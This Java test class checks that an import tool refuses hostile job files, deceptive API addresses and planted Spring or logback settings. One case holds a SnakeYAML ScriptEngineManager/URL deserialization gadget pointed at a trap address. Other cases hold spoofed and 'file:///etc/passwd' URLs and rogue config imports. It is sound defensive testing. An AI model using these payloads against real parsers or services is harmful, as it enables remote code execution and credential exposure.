package dev.pinnedimport.hostile;

import static dev.pinnedimport.issue.IssueCode.JOB_SECRET;
import static dev.pinnedimport.issue.IssueCode.JOB_SYNTAX;
import static dev.pinnedimport.issue.IssueCode.JOB_UNKNOWN_KEY;
import static dev.pinnedimport.issue.IssueCode.JOB_WRONG_VALUE;
import static org.assertj.core.api.Assertions.assertThat;

import java.nio.file.Files;
import java.nio.file.Path;
import java.util.List;
import java.util.Random;
import java.util.stream.Stream;

/// BY01 to BY14: job files, and settings that are not ours.
final class JobCases {

    private static final String HEAD = "version: 1\nname: concerts\nsource: {system: hostile}\nidentity: Id\ntarget: {channel: 41, status: published}\n";
    private static final String SOUND = HEAD + Bench.FIELDS;

    private JobCases() {}

    static List<Case> all() {
        StringBuilder aliases = new StringBuilder(SOUND).append("  a0: &a0 [x, x, x, x, x, x, x, x, x, x]\n");
        for (int i = 1; i < 30; i++) {
            aliases.append("  a%d: &a%d [%s]\n".formatted(i, i, "*a%d, ".formatted(i - 1).repeat(9) + "*a" + (i - 1)));
        }
        Case rates = Case.of("BY13", "paces and numbers out of range");
        for (String send : List.of("rate: 0/s", "rate: -1/s", "rate: 1000000000/s", "in_flight: 10000", "in_flight: 0", "timeout: 0s", "give_up_after: 100d")) {
            rates = rates.jobRefused(send, JOB_WRONG_VALUE, "concerts.yml:", bench -> job(bench, SOUND + "send: {" + send + "}\n"));
        }
        return List.of(
                Case.of("BY01", "tags that name a class")
                        .jobRefused("a Java class", JOB_SYNTAX, "concerts.yml:13:", bench -> job(bench,
                                SOUND + "checks: !!javax.script.ScriptEngineManager [!!java.net.URL [\"" + bench.trapAddress() + "\"]]\n"))
                        .jobRefused("a local tag", JOB_SYNTAX, "concerts.yml:13:", bench -> job(bench, SOUND + "description: !secret x\n")),
                Case.of("BY02", "aliases of aliases of aliases").jobRefused(JOB_SYNTAX, "An unquoted", bench -> job(bench, aliases.toString())),
                Case.of("BY03", "10,000 lists in one another").jobRefused(JOB_SYNTAX, "nested more than 50 deep",
                        bench -> job(bench, SOUND + "examples: " + "[".repeat(10_000) + "]".repeat(10_000) + "\n")),
                Case.of("BY04", "job file of 50 MB").jobRefused(JOB_SYNTAX, "larger than 1 MiB", bench -> job(bench, SOUND + "#".repeat(50 << 20))),
                Case.of("BY05", "one key twice").jobRefused(JOB_SYNTAX, "concerts.yml:13:", bench -> job(bench, SOUND + "identity: Title\n")),
                Case.of("BY06", "key that does not exist").jobRefused(JOB_UNKNOWN_KEY, "Did you mean", bench -> job(bench, SOUND + "guard: {rows: 1..2}\n")),
                Case.of("BY07", "tabs and wrong indentation")
                        .jobRefused("tab", JOB_SYNTAX, "concerts.yml:13:", bench -> job(bench, SOUND + "\tguards: {rows: 1..}\n"))
                        .jobRefused("indentation", JOB_SYNTAX, "concerts.yml:", bench -> job(bench, SOUND + "   guards:\n  rows: 1..\n")),
                Case.of("BY08", "no, on, 1e3, 012 and dates without quotes").accepted("the texts that they are", seen -> {
                    assertThat(seen.event("First").path("audience").asString()).isEqualTo("no");
                    assertThat(seen.event("Middle").path("audience").asString()).isEqualTo("012");
                    assertThat(seen.event("Last").path("audience").asString()).isEqualTo("2026-01-02");
                }, bench -> {
                    bench.job(SOUND + "  audience: {from: Text, values: {on: no, 1e3: 012, 2026-01-02: 2026-01-02}}\n");
                    return bench.csv("Id,Title,Start,Text\nFirst,First,2027-01-12 20:00,on\nMiddle,Middle,2027-01-13 20:00,1e3\nLast,Last,2027-01-14 20:00,2026-01-02\n");
                }),
                Case.of("BY09", "API key in a job file")
                        .played("job refused (20): Key in a job file (JOB-SECRET-01); the key is not shown", bench -> {
                            Launcher.Ended check = bench.check(job(bench, SOUND + "api_key: pinned_live_" + "canary1234567890\n"));
                            assertThat(check.exit()).isEqualTo(20);
                            assertThat(check.all()).contains(JOB_SECRET.id(), "concerts.yml:13:1").doesNotContain("canary1234567890");
                        }),
                addresses(),
                Case.of("BY11", "#{...} and ${...} in values").accepted("literal", seen -> assertThat(seen.event("First").path("locationName").asString())
                        .isEqualTo("${env:HOME} #{1+1} ${pinned.api.key}"), bench -> job(bench, SOUND + "  locationName: {const: \"${env:HOME} #{1+1} ${pinned.api.key}\"}\n")),
                Case.of("BY12", "several documents, nothing, bytes")
                        .jobRefused("several documents", JOB_SYNTAX, "A second document begins here", bench -> job(bench, SOUND + "---\n" + SOUND))
                        .jobRefused("nothing", JOB_SYNTAX, "The file is empty", bench -> job(bench, ""))
                        .jobRefused("bytes", JOB_SYNTAX, "This is not a text file", bench -> {
                            byte[] bytes = new byte[2_000];
                            new Random(12).nextBytes(bytes);
                            bytes[0] = 'P';
                            bytes[1] = 0;
                            bench.job(bytes);
                            return bench.csv(CsvCases.SOUND);
                        }),
                rates,
                Case.of("BY14", "hostile application.yml and logback.xml where the command is given")
                        .played("not looked at: the events are where they belong, and nothing else is written", JobCases::settingsOfOthers));
    }

    private static Case addresses() {
        Case addresses = Case.of("BY10", "addresses of the API that are none, or deceive");
        for (String url : List.of("http://pinned.example", "https://user:secret@pinned.example", "https://pinned.example/../x", "https://pinned.example?x=1",
                "https://pinned.example#x", "https://xn--pnned-q2a.example", "https://p\u0456nned.example", "ftp://pinned.example", "pinned.example", "https://", "https:///x",
                "https://pinned.example\\@evil.example", "https://pinned.example%40evil.example", "http://127.0.0.1.evil.example", "file:///etc/passwd")) {
            addresses = addresses.played(url, "configuration refused (20): Address not usable (CONFIG-URL-01)", bench -> {
                Launcher.Ended run = bench.launch("run", "concerts", bench.csv(CsvCases.SOUND).toString(), "--api", url, "--yes");
                assertThat(run.exit()).as(run.all()).isEqualTo(20);
                assertThat(run.all()).contains("CONFIG-URL-01").doesNotContain("secret@", Bench.KEY);
            });
        }
        return addresses;
    }

    private static Path job(Bench bench, String yaml) throws Exception {
        bench.job(yaml);
        return bench.csv(CsvCases.SOUND);
    }

    private static void settingsOfOthers(Bench bench) throws Exception {
        String evil = bench.trapAddress();
        String yaml = "pinned: {api-url: \"" + evil + "\"}\nspring:\n  batch: {job: {enabled: true, name: evil}}\n  datasource: {url: \"jdbc:hsqldb:file:evil\"}\n"
                + "  main: {sources: evil.Evil}\n  config: {import: \"" + evil + "/x.yml\"}\nlogging: {level: {root: trace}, file: {name: evil.log}}\ndebug: true\n";
        for (String place : List.of("application.yml", "config/application.yml", "application-default.yml", "bootstrap.yml")) {
            Path file = bench.directory().resolve(place);
            Files.createDirectories(file.getParent());
            Files.writeString(file, yaml);
        }
        Files.writeString(bench.directory().resolve("application.properties"), "spring.datasource.url=jdbc:hsqldb:file:evil\nlogging.file.name=evil.log\n");
        for (String place : List.of("logback.xml", "logback-test.xml", "logback-spring.xml")) {
            Files.writeString(bench.directory().resolve(place), "<configuration><appender name=\"f\" class=\"ch.qos.logback.core.FileAppender\"><file>evil.log</file>"
                    + "<encoder><pattern>%m%n</pattern></encoder></appender><root level=\"TRACE\"><appender-ref ref=\"f\"/></root></configuration>");
        }
        Files.writeString(bench.directory().resolve("logging.properties"), "handlers=java.util.logging.FileHandler\njava.util.logging.FileHandler.pattern=evil.log\n.level=ALL\n");
        bench.apart();
        bench.csv(CsvCases.SOUND);
        Launcher.Ended run = bench.run(bench.directory().resolve("export.csv"));
        assertThat(run.exit()).as(run.all()).isZero();
        assertThat(bench.events()).hasSize(2);
        try (Stream<Path> all = Files.walk(bench.directory())) {
            assertThat(all.filter(Files::isRegularFile).map(file -> file.getFileName().toString())).noneMatch(name -> name.startsWith("evil"));
        }
    }
}
